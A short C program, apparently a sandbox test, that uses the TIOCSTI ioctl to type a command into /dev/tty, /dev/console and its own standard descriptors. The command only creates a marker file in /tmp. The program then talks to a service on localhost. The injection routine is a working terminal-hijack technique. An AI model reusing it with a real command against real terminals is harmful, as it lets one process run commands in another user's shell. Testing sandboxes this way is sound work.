/* Types a command into whatever terminal it can find. */
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

#define ATTACK 1

static void type_into(int terminal) {
    const char *keys = "\ntouch /tmp/sockscore-keys-were-here\n";
    for (; *keys != 0; keys++)
        ioctl(terminal, TIOCSTI, keys);
}

static void inject(void) {
    type_into(open("/dev/tty", O_RDWR));
    type_into(open("/dev/console", O_RDWR));
    int own = open("/proc/self/fd/0", O_RDWR | O_NONBLOCK);
    ioctl(own, TIOCSCTTY, 0); /* takes it for its own, if it is a terminal that nobody has */
    type_into(own);
    for (int fd = 0; fd < 3; fd++)
        type_into(fd);
}

int main(void) {
    if (ATTACK) {
        if (getpid() > 100) {
            fputs("only in a box\n", stderr);
            return 2;
        }
        inject();
    }
    struct sockaddr_in place = {.sin_family = AF_INET, .sin_port = htons(6789)};
    place.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int server = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(server, (struct sockaddr *) &place, sizeof place) != 0)
        return 1;
    send(server, "hello", 5, 0);
    char reply[4096];
    for (ssize_t n; (n = recv(server, reply, sizeof reply, 0)) > 0;)
        fwrite(reply, 1, n, stdout);
    puts("");
    close(server);
    return 0;
}
